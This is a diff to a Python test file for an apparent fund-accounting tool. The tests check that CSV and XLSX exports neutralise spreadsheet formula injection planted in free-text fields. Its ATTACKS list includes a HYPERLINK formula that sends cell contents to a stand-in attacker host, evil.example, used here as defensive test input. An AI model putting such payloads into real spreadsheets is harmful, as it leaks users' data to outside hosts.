@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
-import json
+from datetime import date
 from decimal import Decimal
 from pathlib import Path
 
@@ -17,11 +17,13 @@ from sqlalchemy import text
 
 from jointfund.cli.app import main
 from jointfund.fund.demo import build_demo
+from jointfund.ledger import Entry, Posting
 from jointfund.reports.csv_out import csv_text
 from jointfund.reports.formula_guard import FORMULA_START
 from jointfund.reports.tables import Table
 from jointfund.reports.xlsx_out import workbook_bytes
 from jointfund.store import open_database
+from jointfund.store.books import Books
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -83,40 +85,32 @@ def test_the_writers_never_emit_a_formula(rows: list[tuple[object, ...]], name: 
 
 
 @pytest.fixture(scope="module")
-def poisoned(tmp_path_factory: pytest.TempPathFactory) -> str:
+def poisoned(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, str]:
     """A demo fund whose every free-text field holds a formula, as if it got past intake."""
     folder = tmp_path_factory.mktemp("formula")
     url = f"sqlite:///{folder / 'books.db'}"
     db = open_database(url)
-    build_demo(db)
+    admin = build_demo(db).logins[0].token
     with db.write() as conn:
         conn.execute(
             text("UPDATE licences SET holder = :a, deposit = :b, holder_registry_id = :c"),
             {"a": ATTACKS[0], "b": ATTACKS[1], "c": ATTACKS[3]},
         )
-    db.dispose()
-    journal = folder / "poison.jsonl"
-    journal.write_text(
-        json.dumps(
-            {
-                "key": "poison-1",
-                "date": "2025-07-01",
-                "kind": "contribution",
-                "memo": ATTACKS[2],
-                "postings": [
-                    {"account": "Assets:Cash:USD", "amount": "1.00", "currency": "USD"},
-                    {
-                        "account": "Equity:Capital:US:Contributions",
-                        "amount": "-1.00",
-                        "currency": "USD",
-                    },
-                ],
-            }
+    # Straight into the journal, past every use case: the exports must guard it anyway.
+    Books(db).post(
+        Entry(
+            "poison-1",
+            date(2026, 10, 1),
+            "fee",
+            (
+                Posting("Expenses:Operating", 100, "USD"),
+                Posting("Assets:Cash:USD", -100, "USD"),
+            ),
+            memo=ATTACKS[2],
         )
-        + "\n"
     )
-    assert main(["post", str(journal), "--db", url]) == 0
-    return url
+    db.dispose()
+    return url, admin
 
 
 EXPORTS = [
@@ -129,10 +123,12 @@ EXPORTS = [
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 @pytest.mark.parametrize("command", EXPORTS, ids=" ".join)
 def test_every_export_neutralises_formulas(
-    poisoned: str, command: list[str], fmt: str, tmp_path: Path
+    poisoned: tuple[str, str], command: list[str], fmt: str, tmp_path: Path
 ) -> None:
     out = tmp_path / f"export.{fmt}"
-    assert main([*command, "--format", fmt, "--out", str(out), "--db", poisoned]) == 0
+    url, token = poisoned
+    args = [*command, "--format", fmt, "--out", str(out), "--db", url, "--token", token]
+    assert main(args) == 0
     data = out.read_bytes()
     found = _csv_formulas(data) if fmt == "csv" else _xlsx_formulas(data)
     assert found == []
